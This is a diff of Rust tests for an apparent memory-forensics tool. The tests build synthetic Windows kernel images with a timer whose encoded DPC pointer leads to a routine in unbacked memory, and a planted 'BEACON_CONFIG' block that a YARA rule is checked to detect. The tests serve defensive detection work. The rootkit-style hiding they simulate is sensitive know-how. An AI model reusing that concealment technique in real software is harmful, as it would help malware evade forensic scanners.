+    for (index, (opcode, variable, value)) in [([0x48, 0x8B, 0x05], 0x3000usize, never), ([0x4C, 0x8B, 0x0D], 0x3008, always), ([0x48, 0x8B, 0x15], 0x3010, KERNEL_VA)].into_iter().enumerate() {
+        let at = 0x1000 + index * 7;
+        data[0x5000 + at..0x5000 + at + 3].copy_from_slice(&opcode);
+        put_u32(&mut data, 0x5000 + at + 3, (variable - at - 7) as u32);
+        put(&mut data, 0x5000 + variable, value);
+    }
+    data[0x5000 + 0x1015] = 0xC3;
+
+    // KiProcessorBlock -> KPRCB at KPCR + 0x180
+    let (kpcr, prcb) = (0x9000, 0x9180);
+    put(&mut data, 0x7000 + 0x218, kva(0x8F00));
+    put(&mut data, 0x8F00, kva(prcb));
+    put(&mut data, kpcr + 0x18, kva(kpcr));
+    put(&mut data, kpcr + 0x20, kva(prcb));
+    // 256 timer list heads at KPRCB + 0x400, all empty but two
+    let head = |list: usize| prcb + 0x400 + list * 0x20 + 8;
+    for list in 0..256 {
+        put(&mut data, head(list), kva(head(list)));
+        put(&mut data, head(list) + 8, kva(head(list)));
+    }
+    // List 3: a periodic timer with a plain DPC pointer into ntoskrnl, then a
+    // timer without a DPC; list 10: a timer with an encoded DPC pointer to a
+    // routine in no module
+    let (periodic, waiting, encoded) = (0xC000, 0xC400, 0xC200);
+    for (list, timers) in [(3, vec![periodic, waiting]), (10, vec![encoded])] {
+        let links: Vec<usize> = std::iter::once(head(list)).chain(timers.iter().map(|t| t + 0x20)).collect();
+        for (index, &link) in links.iter().enumerate() {
+            put(&mut data, link, kva(links[(index + 1) % links.len()]));
+            put(&mut data, link + 8, kva(links[(index + links.len() - 1) % links.len()]));
+        }
+    }
+    let put_dpc = |data: &mut [u8], dpc: usize, routine: u64| {
+        data[dpc] = 0x13;
+        put(data, dpc + 0x18, routine);
+        put(data, dpc + 0x20, 0x1234);
+    };
+    put(&mut data, periodic + 0x30, kva(0xC100));
+    put_u32(&mut data, periodic + 0x3C, 1000);
+    put_dpc(&mut data, 0xC100, KERNEL_VA + 0x1500);
+    let hidden = kva(0xC300) ^ always ^ kva(encoded).swap_bytes();
+    put(&mut data, encoded + 0x30, hidden.rotate_right(5) ^ never);
+    put_dpc(&mut data, 0xC300, KERNEL_VA + 0xD000);
+    // A DPC of beep.sys queued on the KDPC_DATA at KPRCB + 0x100
+    put(&mut data, prcb + 0x100, kva(0xC508));
+    put_dpc(&mut data, 0xC500, driver + 0x10);
+    put(&mut data, 0xC500 + 0x38, kva(prcb + 0x100));
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let findings = TimerScanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (
+        f.addr, f.details["routine"].as_str(), f.details["module"].as_str(), f.details["rule"].as_str(), f.confidence,
+    )).collect();
+    assert_eq!(summary, vec![
+        (periodic as u64, "0xfffff80000001500", "ntoskrnl.exe", "kernel_timer", 30),
+        (encoded as u64, "0xfffff8000000d000", "unknown", "timer_in_unbacked_memory", 90),
+        (0xC500, "0xfffff8000000e010", "beep.sys", "queued_dpc", 30),
+    ]);
+    assert_eq!(findings[0].desc, "Timer 0xfffff80000007000 on CPU 0 runs 0xfffff80000001500 in ntoskrnl.exe every 1000 ms");
+    assert_eq!((findings[1].details["dpc"].as_str(), findings[1].details["context"].as_str()), ("0xfffff80000007300", "0x1234"));
+    assert!(!findings[2].details.contains_key("timer"));
+    Ok(())
+}
+
+#[cfg(feature = "yara")]
+#[test]
+fn test_yara_plugin_scans_process_memory() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(true);
+    // A configuration block in the injected page (0x410000 -> 0x1C000)
+    data[0x1C100..0x1C10D].copy_from_slice(b"BEACON_CONFIG");
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+
+    let scanner = crate::plugin::YaraScanner::new(r#"rule beacon { strings: $config = "beacon_config" nocase condition: $config }"#)?.with_processes(true);
+    assert!(scanner.needs().kernel_dtb);
+    let findings = scanner.scan(&img, &ProgressBar::hidden());
+    let found: Vec<(u64, Option<&str>, Option<&str>)> = findings.iter()
+        .map(|f| (f.addr, f.details.get("pid").map(String::as_str), f.details.get("va").map(String::as_str)))
+        .collect();
+    assert_eq!(found, vec![(0x1C100, None, None), (0x1C100, Some("496"), Some("0x410100"))]);
+    assert_eq!(findings[1].desc, "YARA rule beacon matched in victim.exe (PID 496) at 0x410100 ($config)");
+    Ok(())
+}